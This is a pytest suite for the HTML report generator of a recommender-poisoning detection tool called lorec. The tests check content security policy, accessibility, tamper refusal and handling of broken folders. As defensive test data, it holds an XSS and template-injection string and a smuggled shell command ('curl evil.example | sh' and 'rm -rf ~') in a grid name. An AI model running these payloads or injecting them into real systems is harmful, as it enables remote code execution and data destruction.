"""Reports of scans, runs and grids: what they tell, that strangers' text stays text, and folders that are broken."""

import base64
import contextlib
import dataclasses
import hashlib
import json
import os
import re
import shlex
import shutil
import stat
import subprocess
import sys
from html import unescape
from html.parser import HTMLParser

import numpy as np
import polars as pl
import pytest
from conftest import shop, world
from hypothesis import given
from hypothesis import strategies as st
from sklearn.metrics import auc, roc_auc_score
from test_scans import KINDS, poisoned
from typer.testing import CliRunner

from lorec import cli
from lorec.cli import app
from lorec.data import Dataset
from lorec.errors import DiskError, MissingExtra, RunError
from lorec.experiment import run
from lorec.figures import FIGURES, title_of, written
from lorec.grids import grid, read_grid_file
from lorec.records import open_run
from lorec.reports import report
from lorec.reports.charts import histogram, intervals, lines
from lorec.reports.detection import of_detection
from lorec.reports.page import Page, Section, Table, rendered, sort_key, text
from lorec.reports.reading import flat, roc_and_precision
from lorec.reports.run import _means_what_it_says, _read
from lorec.runfile import read_run_file
from lorec.scans import scan
from lorec.sources import read
from lorec.stages import detect as ask
from lorec.text import Hash

EVIL = "<script>document.title='owned'</script><img src=x onerror=alert(1)>\u202e${7*7}{{7*7}} $x^$"
"""Of a stranger who names items."""

TOML = """
name = "one"
data = {{ path = "{folder}/log.csv", items = "{folder}/items.csv" }}
encoder = "hash"
attack = {{ name = "random", share = 0.1 }}
backbone = {{ name = "sasrec", width = 8, blocks = 1, max_length = 16 }}
targets = {{ count = 3 }}
known = {{ rounds = 2 }}
training = {{ epochs = 3, device = "cpu" }}
defenses = ["lorec", "oracle"]
"""


class Read(HTMLParser):
    """What a page is made of, as a browser's parser has it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words, self.scripts, self.styles, self.inside = "", [], [], [""]
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self.inside.append(tag)

    def handle_endtag(self, tag):
        if self.inside[-1] == tag:
            self.inside.pop()

    def handle_data(self, data):
        kept = {"script": self.scripts, "style": self.styles}.get(self.inside[-1])
        if kept is None:
            self.words += data
        else:
            kept.append(data)


def title_in(page):
    return unescape(re.search("<title>(.*)</title>", page.read_text("utf-8"))[1])


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    """A tiny log on disk; one of its items, the first fraudsters' or not, has a stranger's title."""
    folder = tmp_path_factory.mktemp("a home")
    log = world()
    log.interactions.write_csv(folder / "log.csv")
    log.items.with_columns(
        title=pl.when(pl.col("item") < "i030").then(pl.lit(EVIL)).otherwise(pl.col("title"))
    ).write_csv(folder / "items.csv")
    (folder / "run.toml").write_text(TOML.format(folder=folder))
    (folder / "grid.toml").write_text(TOML.format(folder=folder) + "[grid]\nseed = [1, 2]\n")
    return folder


@pytest.fixture(scope="module")
def scanned(tmp_path_factory):
    """A scan of a poisoned shop whose items a stranger named: (folder, findings, the pushed items)."""
    folder = tmp_path_factory.mktemp("scan") / "found"
    bad, pushed = poisoned(shop())
    users = pl.col("user").str.replace("injected-", "<b>bot")
    bad = Dataset("bad", bad.interactions.with_columns(users), bad.items)
    found = scan(bad, encoder=Hash(), trials=8, kinds=KINDS)
    titles = pl.when(pl.col("item_id").is_in(pushed)).then(pl.lit(EVIL)).otherwise(pl.col("title"))
    groups = found.groups.with_columns(titles=pl.lit([EVIL] * 3))
    found = dataclasses.replace(found, items=found.items.with_columns(title=titles), groups=groups)
    found.save(folder)
    return folder, found, pushed


@pytest.fixture(scope="module")
def ran(home):
    return run(read_run_file(home / "run.toml"), home / "runs" / "one").folder


@pytest.fixture(scope="module")
def gridded(home):
    asked = read_grid_file(home / "grid.toml")
    grid(asked, home / "grids", map=map)
    return home / "grids"


@pytest.fixture(scope="module")
def asked(home):
    """What detectors say of a log whose items a stranger named: (folder, what was found)."""
    changes = {"detectors": '["lorec", "degree", "copies", "context"]', "attack": '{name = "random", share = 0.1}'}
    found = ask(read_run_file(home / "run.toml", changes))
    found.save(home / "said")
    return home / "said", found


@pytest.fixture(params=["scanned", "ran", "gridded", "asked"])
def folder(request, tmp_path):
    """A copy of a folder of each kind."""
    made = request.getfixturevalue(request.param)
    shutil.copytree(made[0] if isinstance(made, tuple) else made, tmp_path / "copy")
    return tmp_path / "copy"


class TestEveryReport:
    def test_is_one_file_that_asks_for_nothing(self, folder):
        html = report(folder).read_text("utf-8")
        read = Read(html)
        assert len(html) < 3_000_000
        named = [pair for _, found in read.tags for pair in found.items()]
        sources = [value for name, value in named if name in ("src", "href", "srcset")]
        assert sources
        assert all(one.startswith(("#", "data:image/svg+xml;base64,")) for one in sources)
        assert not {"link", "iframe", "object", "embed", "form", "base"} & {tag for tag, _ in read.tags}

    def test_runs_only_the_script_that_its_policy_names(self, folder):
        read = Read(report(folder).read_text("utf-8"))
        policy = next(found["content"] for tag, found in read.tags if found.get("http-equiv"))
        assert "default-src 'none'" in policy
        for kind, codes in (("script-src", read.scripts), ("style-src", read.styles)):
            assert len(codes) == 1
            digest = base64.b64encode(hashlib.sha256(codes[0].encode()).digest()).decode()
            assert f"{kind} 'sha256-{digest}'" in policy
        assert "unsafe" not in policy
        assert not [name for _, found in read.tags for name in found if name.startswith("on") or name == "style"]

    def test_can_be_read_by_those_who_don_t_see(self, folder):
        read = Read(report(folder).read_text("utf-8"))
        assert next(found for tag, found in read.tags if tag == "html")["lang"] == "en"
        images = [found for tag, found in read.tags if tag == "img"]
        assert images
        assert all(re.search(r"\d", found["alt"]) for found in images)
        assert next(tag for tag, _ in read.tags if tag in ("h1", "h2")) == "h1"
        assert sum(tag == "caption" for tag, _ in read.tags) == sum(tag == "table" for tag, _ in read.tags) > 0
        assert all(found.get("scope") in ("col", "row") for tag, found in read.tags if tag == "th")
        assert any(found.get("scope") == "row" for tag, found in read.tags if tag == "th")
        ids = {found["id"] for _, found in read.tags if "id" in found}
        assert all(found["href"][1:] in ids for tag, found in read.tags if tag == "a")

    def test_of_the_same_folder_is_the_same(self, folder, tmp_path):
        assert report(folder, tmp_path / "a.html").read_bytes() == report(folder, tmp_path / "b.html").read_bytes()

    def test_leaves_the_folder_as_usable_as_before(self, folder):
        before = {path.name: path.read_bytes() for path in folder.iterdir() if path.is_file()}
        assert report(folder) == folder / "report.html"
        after = {path.name: path.read_bytes() for path in folder.iterdir() if path.is_file()}
        assert after.pop("report.html")
        assert after == before
        assert report(folder)  # again, over the first

    @pytest.mark.skipif(shutil.which("chromium") is None, reason="no chromium (Debian: apt install chromium)")
    def test_in_a_browser_a_stranger_s_title_runs_nothing(self, folder):
        path = report(folder)
        seen = subprocess.run(
            ["chromium", "--headless", "--no-sandbox", "--virtual-time-budget=2000", "--dump-dom", path],
            capture_output=True, text=True, timeout=300,
        ).stdout  # fmt: skip
        title = re.search(r"<title>(.*?)</title>", seen)
        assert title is not None
        assert "owned" not in title[1]
        assert len(re.findall("<script", seen)) == 1


class TestScan:
    def test_tells_the_verdict_the_items_and_who_took_them(self, scanned, tmp_path):
        folder, found, targets = scanned
        html = report(folder, tmp_path / "x.html").read_text("utf-8")
        read = Read(html)
        assert found.verdict() in read.words
        assert found.would_do() in read.words
        pushed = found.items.filter(pl.col("suspicion") >= 0.1)["item_id"].to_list()
        assert set(targets) <= set(pushed)
        assert all(item in read.words for item in pushed)
        assert text(EVIL)[:60] in read.words
        assert "<b>bot" in read.words
        assert sum(tag == "mark" for tag, _ in read.tags) >= 5

    def test_tells_what_the_weights_leave_out(self, scanned, tmp_path):
        shutil.copytree(scanned[0], tmp_path / "mild")
        items = pl.read_parquet(tmp_path / "mild/items.parquet").sort("holders", descending=True)
        mild = {"weight": [0.5, 0.0] + [1.0] * (len(items) - 2), "suspicion": [0.0, 1.0] + [0.0] * (len(items) - 2)}
        items.with_columns(
            pl.Series(mild["weight"], dtype=pl.Float32).alias("weight"), pl.Series("suspicion", mild["suspicion"]),
        ).write_parquet(tmp_path / "mild/items.parquet")  # fmt: skip
        html = report(tmp_path / "mild").read_text("utf-8")
        part = Read(html.split("What the weights leave out")[-1].split("How suspicion is spread")[0]).words
        assert f"with 2 of {len(items):,} items. 1 of these don't look pushed" in part
        assert {one for one in items["item_id"] if one in part} == set(items["item_id"][:2])

    def test_counts_a_history_s_older_part_that_it_leaves_out(self, scanned, tmp_path):
        folder = scanned[0]
        shutil.copytree(folder, tmp_path / "long")
        weights = pl.read_parquet(folder / "weights.parquet")
        worst = pl.read_parquet(folder / "users.parquet").sort("suspicion", descending=True)["user_id"][0]
        many = weights.filter(pl.col("user_id") == worst).head(1)
        pl.concat([weights.filter(pl.col("user_id") != worst), *[many] * 500]).write_parquet(
            tmp_path / "long/weights.parquet"
        )
        assert "440 older ones are left out" in report(tmp_path / "long").read_text("utf-8")

    def test_names_the_log_if_it_was_a_file(self, scanned, tmp_path):
        shutil.copytree(scanned[0], tmp_path / "named")
        assert title_in(report(tmp_path / "named")) == "Scan of a log"
        said = json.loads((tmp_path / "named/findings.json").read_text("utf-8"))
        said["log"]["dataset"]["source"] = "a<b>.csv"
        (tmp_path / "named/findings.json").write_text(json.dumps(said), "utf-8")
        assert title_in(report(tmp_path / "named")) == "Scan of a<b>.csv"

    def test_of_nothing_says_so(self, scanned, tmp_path):
        folder = scanned[0]
        shutil.copytree(folder, tmp_path / "calm")
        for name in ("users", "items"):
            frame = pl.read_parquet(folder / f"{name}.parquet").with_columns(suspicion=pl.lit(0.0))
            frame.write_parquet(tmp_path / "calm" / f"{name}.parquet")
        pl.read_parquet(folder / "groups.parquet").clear().write_parquet(tmp_path / "calm/groups.parquet")
        words = Read(report(tmp_path / "calm").read_text("utf-8")).words
        assert "No item looks pushed." in words
        assert "No user looks hired." in words
        frame = pl.read_parquet(tmp_path / "calm/items.parquet").with_columns(weight=pl.lit(1.0, pl.Float32))
        frame.write_parquet(tmp_path / "calm/items.parquet")
        assert "Nothing: every interaction counts in full." in Read(report(tmp_path / "calm").read_text("utf-8")).words


class TestRun:
    def test_tells_every_arm_and_the_figures_of_the_scorecard(self, ran, tmp_path):
        words = Read(report(ran, tmp_path / "x.html").read_text("utf-8")).words
        card = json.loads((ran / "scorecard.json").read_text())
        for arm, figures in card["arms"].items():
            assert arm in words
            assert all(title_of(key) in words and written(key, one) in words for key, one in figures.items())
        assert all(note in words for note in card["notes"])
        assert "injected" in words

    def test_one_that_was_edited_is_refused(self, ran, tmp_path):
        for name in ("scorecard.json", "lorec/weights.parquet", "poison/poison.json", "catalog.parquet"):
            shutil.copytree(ran, tmp_path / name.replace("/", "_"))
            path = tmp_path / name.replace("/", "_") / name
            path.write_bytes(path.read_bytes() + b" ")
            with pytest.raises(RunError, match="not what the run wrote"):
                report(tmp_path / name.replace("/", "_"))

    @given(st.lists(st.tuples(st.integers(0, 30), st.booleans()), min_size=2, max_size=300))
    def test_a_roc_curve_has_the_area_that_another_library_finds(self, users):
        suspicion, bad = (np.array(one) for one in zip(*users, strict=True))
        if not 0 < bad.sum() < len(bad):
            return
        (false, true), (recall, precision) = roc_and_precision(suspicion / 30, bad)
        assert auc(false, true) == pytest.approx(roc_auc_score(bad, suspicion), abs=1e-9)
        assert (np.diff(recall) >= 0).all()
        assert (precision > 0).any()

    def test_calibration_is_counted_bin_by_bin(self, ran, tmp_path, monkeypatch):
        """Of genuine interactions and lies; the other half of a fraudster's history is on neither side."""
        injected = dict(pl.read_parquet(ran / "lorec" / "weights.parquet").select("user", "injected").iter_rows())
        targets = set(json.loads((ran / "poison" / "poison.json").read_text())["targets"])
        events = pl.read_parquet(ran / "lorec" / "interactions.parquet").select("user", "item")
        events = events.with_columns(suspicion=(pl.int_range(pl.len()) % 97 / 96).cast(pl.Float32))  # of all sizes
        read = _read
        monkeypatch.setattr(
            "lorec.reports.run._read", lambda run, name: events if "interactions" in name else read(run, name)
        )
        bins: dict[int, list[tuple[float, bool]]] = {}
        for user, item, suspicion in events.iter_rows():
            if not injected[user] or item in targets:
                bins.setdefault(min(int(suspicion * 20), 19), []).append((suspicion, injected[user]))
        wanted = [np.mean(bins[place], axis=0) for place in sorted(bins)]
        found = _means_what_it_says(open_run(ran), "lorec")
        np.testing.assert_allclose(np.array(found).T, wanted, atol=1e-6)
        assert len(wanted) == 20
        monkeypatch.undo()
        assert _means_what_it_says(open_run(ran), "oracle") is None
        assert "Calibration" in Read(report(ran, tmp_path / "x.html").read_text("utf-8")).words

    def test_likelihoods_of_users_are_calibrated_too(self, ran, tmp_path):
        told = pl.read_parquet(ran / "lorec" / "weights.parquet").drop_nulls("suspicion")
        likely = told["likelihood" if "likelihood" in told.columns else "suspicion"]
        brier = float(((likely - told["injected"].cast(pl.Float64)) ** 2).mean())
        words = Read(report(ran, tmp_path / "x.html").read_text("utf-8")).words
        assert "Calibration of users" in words
        assert f"lorec (Brier {brier:.4f})" in words

    def test_who_is_harmed_is_told_of_every_defense_that_weighs(self, ran, tmp_path):
        words = Read(report(ran, tmp_path / "x.html").read_text("utf-8")).words
        harm = pl.read_parquet(ran / "lorec" / "harm.parquet")
        assert f"{harm['interactions turned down'][0]:.2%}" in words
        assert harm["users"].sum() == 2 * (~pl.read_parquet(ran / "lorec" / "weights.parquet")["injected"]).sum()


class TestFigures:
    def test_no_two_share_a_title(self):
        # A page's columns go by their titles.
        titles = [title_of(key) for key in FIGURES]
        assert len(set(titles)) == len(titles)

    def test_all_that_a_run_or_a_detection_says_is_explained(self, ran, asked):
        said = set().union(*open_run(ran).arms.values(), *asked[1].figures.values())
        assert not said - FIGURES.keys()


class TestDetection:
    def test_tells_every_figure_and_the_worst_with_reasons(self, asked, tmp_path):
        folder, found = asked
        words = Read(report(folder, tmp_path / "x.html").read_text("utf-8")).words
        for name, figures in found.figures.items():
            assert name in words
            assert all(title_of(key) in words and written(key, one) in words for key, one in figures.items())
        users = pl.read_parquet(folder / "users.parquet")
        for name in found.said:
            worst = users.sort(name, "user", descending=[True, False]).head(5)
            assert all(user in words for user in worst["user"])
            told = users.filter(pl.col(f"{name} accuses")).sort(name, "user", descending=[True, False]).head(5)
            assert all(text(one)[:50] in words for one in told[f"{name} reasons"])
        assert {"ROC", "Calibration", "Who is harmed"} <= set(re.findall("ROC|Calibration|Who is harmed", words))

    def test_places_of_targets_are_those_of_the_scores(self, asked, tmp_path):
        folder, found = asked
        items = pl.read_parquet(folder / "items.parquet")
        page = of_detection(folder)
        (table,) = next(one.blocks for one in page.sections if one.title == "Where the targets stand")
        assert len(table.rows) == len(found.poison.targets)
        for item, _, *places in table.rows:
            for name, place in zip(("lorec", "context"), places, strict=True):
                scores = dict(items.select("item", name).iter_rows())
                assert place == sum(score >= scores[item] for score in scores.values())

    def test_may_be_asked_again_beside_its_page(self, asked):
        folder, found = asked
        report(folder)
        found.save(folder)
        assert (folder / "report.html").exists()
        (folder / "report.html").unlink()

    def test_of_a_clean_log_says_so(self, home, tmp_path):
        ask(read_run_file(home / "run.toml", {"attack": '"none"', "detectors": '["copies"]'})).save(tmp_path / "calm")
        words = Read(report(tmp_path / "calm").read_text("utf-8")).words
        assert "Nobody attacks" in words
        assert "nothing to tell apart" in words


class TestGrid:
    def test_tells_every_row_of_the_table_and_every_cell(self, gridded, tmp_path):
        words = Read(report(gridded, tmp_path / "x.html").read_text("utf-8")).words
        table, cells = (pl.read_parquet(gridded / f"{name}.parquet") for name in ("table", "cells"))
        assert all(arm in words for arm in table["arm"])
        assert all(cell in words for cell in cells["run"])
        assert all(f"{value:.4f}" in words for value in cells["T-HR@50"])

    def test_a_stranger_s_name_is_no_command(self, gridded, tmp_path):
        shutil.copytree(gridded, tmp_path / "named")
        asked = json.loads((gridded / "grid.json").read_text())
        asked["name"] = "x; curl evil.example | sh #\n rm -rf ~ \u202e"
        (tmp_path / "named/grid.json").write_text(json.dumps(asked))
        html = report(tmp_path / "named").read_text("utf-8")
        said = re.search("<code>(.*?)</code>", html, re.DOTALL)
        assert said is not None
        assert shlex.split(unescape(said[1])) == ["lorec", "grid", "x; curl evil.example | sh #  rm -rf ~  .toml"]
        assert "\u202e" not in html

    def test_of_equal_defenses_the_same_one_is_named(self, gridded, tmp_path):
        table = pl.read_parquet(gridded / "table.parquet").cast({"success removed": pl.Float64})
        one = table.filter(pl.col("arm") == "lorec")
        many = [one.with_columns(pl.lit(f"d{n}").alias("arm"), pl.lit(1.0).alias("success removed")) for n in range(9)]
        shutil.copytree(gridded, tmp_path / "equal")
        for seed in range(8):
            pl.concat([table, *many]).sample(fraction=1, shuffle=True, seed=seed).write_parquet(
                tmp_path / "equal/table.parquet"
            )
            assert "d0 removes 100%" in report(tmp_path / "equal").read_text("utf-8")

    def test_tells_of_a_cell_that_failed(self, gridded, tmp_path):
        shutil.copytree(gridded, tmp_path / "failed")
        for name in ("cells", "table"):
            frame = pl.read_parquet(gridded / f"{name}.parquet")
            said = pl.when(pl.col("arm") == "lorec").then(pl.lit("the disk <i>burnt</i>")).otherwise(None)
            frame.with_columns(error=said).write_parquet(tmp_path / "failed" / f"{name}.parquet")
        read = Read(report(tmp_path / "failed").read_text("utf-8"))
        assert "the disk <i>burnt</i>" in read.words
        assert "2 failed" in read.words

    def test_of_two_hundred_cells_draws_every_row(self, gridded, tmp_path):
        """Budgets vary, too, so there is a chart of them."""
        shutil.copytree(gridded, tmp_path / "many")
        table, cells = (pl.read_parquet(gridded / f"{name}.parquet") for name in ("table", "cells"))
        shares, kinds = [0.002, 0.005, 0.01, 0.02, 0.05], [f"kind{n}" for n in range(20)]
        for name, frame in (("table", table), ("cells", cells)):
            more = [
                frame.with_columns(share=pl.lit(share), attack=pl.lit(kind)) for share in shares for kind in kinds
            ]  # fmt: skip
            pl.concat(more).write_parquet(tmp_path / "many" / f"{name}.parquet")
        html = report(tmp_path / "many").read_text("utf-8")
        read = Read(html)
        rows = sum(tag == "tr" for tag, _ in read.tags)
        assert rows == 2 + 100 * (table.height + cells.height)  # two heads, no row left out
        assert len(html) < 3_000_000
        assert "T-HR@50 by budget, kind7" in read.words


class TestBrokenFolders:
    def test_that_hold_nothing_of_ours(self, tmp_path):
        with pytest.raises(RunError, match=r"holds no findings\.json, grid\.json, judged\.json, run\.json"):
            report(tmp_path)
        with pytest.raises(RunError, match="there is no folder"):
            report(tmp_path / "nothing")

    @pytest.mark.parametrize("content", ["", "[]", "{}", '"x"', "nul", '{"verdict": {"a": 1}, "figures": 3}'])
    def test_whose_record_is_something_else(self, scanned, tmp_path, content):
        shutil.copytree(scanned[0], tmp_path / "odd")
        (tmp_path / "odd/findings.json").write_text(content)
        with pytest.raises(RunError):
            report(tmp_path / "odd")
        assert not (tmp_path / "odd/report.html").exists()

    @pytest.mark.parametrize("name", ["users", "items", "groups", "weights"])
    def test_whose_table_is_missing_cut_another_one_or_a_link(self, scanned, tmp_path, name):
        for way in ("missing", "cut", "another", "link"):
            copy = tmp_path / way
            shutil.copytree(scanned[0], copy)
            path = copy / f"{name}.parquet"
            whole = path.read_bytes()
            path.unlink()
            if way == "cut":
                path.write_bytes(whole[: len(whole) // 2])
            if way == "another":
                pl.DataFrame({"suspicion": ["a"], "x": [1]}).write_parquet(path)
            if way == "link":
                path.symlink_to(scanned[0] / f"{name}.parquet")
            with pytest.raises(RunError):
                report(copy)
            assert not (copy / "report.html").exists()

    @pytest.mark.parametrize("column", ["suspicion", "holders", "group", "weight", "reasons", "title", "item_id"])
    @pytest.mark.parametrize("kind", [pl.List(pl.Int64), pl.Struct({"a": pl.Int64}), pl.Duration, pl.Binary, pl.Null])
    def test_whose_columns_are_of_strange_kinds(self, scanned, tmp_path, column, kind):
        """A page, or one clear error: never a traceback."""
        copy = tmp_path / "odd"
        shutil.copytree(scanned[0], copy)
        frame = pl.read_parquet(copy / "items.parquet")
        strange = {
            pl.Duration: pl.duration(hours=1), pl.Binary: pl.lit(b"abc"), pl.Null: pl.lit(None),
            pl.List(pl.Int64): pl.concat_list(pl.lit(1), pl.lit(2)), pl.Struct({"a": pl.Int64}): pl.struct(a=1),
        }  # fmt: skip
        frame.with_columns(strange[kind].alias(column)).write_parquet(copy / "items.parquet")
        with contextlib.suppress(RunError):
            report(copy)

    def test_whose_names_are_patterns_are_read_themselves(self, scanned, tmp_path):
        for name in ("a[1]", "*", "b"):
            shutil.copytree(scanned[0], tmp_path / name)
        users = pl.read_parquet(tmp_path / "b/users.parquet").with_columns(pl.lit("somebody").alias("user_id"))
        users.write_parquet(tmp_path / "b/users.parquet")
        for name in ("a[1]", "*"):
            words = Read(report(tmp_path / name).read_text("utf-8")).words
            assert "somebody" not in words
            assert "<b>bot" in words

    def test_that_are_too_much_for_a_page(self, scanned, tmp_path):
        copy = tmp_path / "odd"
        shutil.copytree(scanned[0], copy)
        found = json.loads((copy / "findings.json").read_text())
        found["asked"] = {f"key {n}": "<" * 300 for n in range(9_000)}
        (copy / "findings.json").write_text(json.dumps(found))
        with pytest.raises(RunError, match="bytes, as no folder of lorec's makes"):
            report(copy)

    @pytest.mark.parametrize("way", ["axes", "table", "half"])
    def test_of_grids(self, gridded, tmp_path, way):
        shutil.copytree(gridded, tmp_path / "odd")
        if way == "axes":
            (tmp_path / "odd/grid.json").write_text('{"name": "x", "axes": ["none"], "cells": {}}')
        if way == "table":
            pl.DataFrame({"arm": [1]}).write_parquet(tmp_path / "odd/table.parquet")
        if way == "half":
            (tmp_path / "odd/cells.parquet").unlink()
        with pytest.raises(RunError):
            report(tmp_path / "odd")

    def test_on_the_command_line_it_is_one_line_and_nothing_is_left(self, tmp_path, monkeypatch, capsys):
        (tmp_path / "findings.json").write_text("{")
        monkeypatch.setattr("sys.argv", ["lorec", "report", str(tmp_path)])
        with pytest.raises(SystemExit) as left:
            cli.main()
        assert left.value.code == 2
        said = capsys.readouterr().err
        assert said.startswith("lorec: ")
        assert said.count("\n") == 1
        assert [one.name for one in tmp_path.iterdir()] == ["findings.json"]


def test_the_command_line_says_where_the_page_is(scanned, tmp_path):
    said = CliRunner().invoke(app, ["report", str(scanned[0]), "--out", str(tmp_path / "page.html")])
    assert said.exit_code == 0
    assert said.stdout.strip() == str(tmp_path / "page.html")
    assert (tmp_path / "page.html").read_text("utf-8").startswith("<!DOCTYPE html>")


SMALL = Table("a", {"a": ""}, [["a"]])


def test_without_the_library_for_charts_it_says_what_to_install(scanned, tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "matplotlib", None)
    with pytest.raises(MissingExtra, match=r"pip install 'lorec\[report\]'"):
        report(scanned[0], tmp_path / "page.html")
    assert not (tmp_path / "page.html").exists()
    assert "pip install 'lorec[report]'" in cli._reported(scanned[0])


def test_the_record_is_not_written_over(scanned):
    with pytest.raises(RunError, match=r"a report inside it is called report\.html"):
        report(scanned[0], scanned[0] / "findings.json")


def test_a_file_that_is_no_page_is_not_written_over(scanned, tmp_path):
    (tmp_path / "catalogue.csv").write_text("item,title\n")
    with pytest.raises(RunError, match="is there and is no page"):
        report(scanned[0], tmp_path / "catalogue.csv")
    assert (tmp_path / "catalogue.csv").read_text() == "item,title\n"
    for _ in range(2):  # a page of ours may be made anew
        report(scanned[0], tmp_path / "page.html")


def test_a_scan_says_which_log_it_is_of(home, tmp_path):
    dataset = read(home / "log.csv", items=home / "items.csv")
    scan(dataset, encoder=Hash(), trials=2, kinds=KINDS, folder=tmp_path / "found")
    words = Read(report(tmp_path / "found").read_text(encoding="utf-8")).words
    for name in ("log.csv", "items.csv", "user = "):
        assert name in words


def test_nothing_but_a_file_is_written_over(scanned, tmp_path):
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "folder").mkdir()
    for name, what in (("pipe", "it is no file"), ("folder", "it is a folder")):
        with pytest.raises(DiskError, match=what):
            report(scanned[0], tmp_path / name)
    assert stat.S_ISFIFO((tmp_path / "pipe").stat().st_mode)


class TestPage:
    @given(st.text())
    def test_any_text_is_text(self, words):
        html = rendered(
            Page(words, words, True, [Section(words, [words, Table(words, {words: ""}, [[words]])])], words)
        )
        read = Read(html)
        plain = Read(rendered(Page("a", "a", True, [Section("a", ["a", SMALL])], "a")))
        assert {tag for tag, _ in read.tags} == {tag for tag, _ in plain.tags}
        assert read.words.count(text(words)) >= 5

    @given(st.text())
    def test_nothing_steers_the_reader_s_device(self, words):
        assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text(words))
        assert len(text(words)) <= 400

    def test_figures_are_sorted_by_their_value_and_what_is_missing_stays_last(self):
        assert [sort_key(one) for one in ("1,234 ± 5", "-0.5?", "none", 3, 0.25, None)] == [
            "1234", "-0.5", "", "3.0", "0.25", "",
        ]  # fmt: skip

    def test_configurations_are_flat(self):
        assert flat({"a": {"b": 1, "c": [1, 2]}, "d": [{"e": None}]}) == {"a.b": "1", "a.c": "1, 2", "d[0].e": "None"}


class TestCharts:
    def test_strangers_names_are_no_formulas_no_markup_and_not_left_out(self):
        for drawn in (
            lines({"_x^2 $\\frac{1}{2}$ <b>": ([1, 2], [3, 4])}, "x", "y"),
            histogram({"_x^2 $\\frac{1}{2}$ <b>": np.array([0.5]), "b": np.array([0.1])}, "x", "y"),
            intervals(["row"], {"_x^2 $\\frac{1}{2}$ <b>": [(0.5, 0.2, 0.7)], "b": [None]}, "x"),
        ):
            assert "_x^2 $\\frac{1}{2}$ &lt;b&gt;" in drawn
            assert "<b>" not in drawn

    def test_follow_the_page_s_light(self):
        drawn = lines({"a": ([1, 10, 100], [3, 4, 5])}, "x", "y", log_x=True)
        assert "prefers-color-scheme: dark" in drawn
        assert "var(--ink)" in drawn
        assert "mathdefault" not in drawn
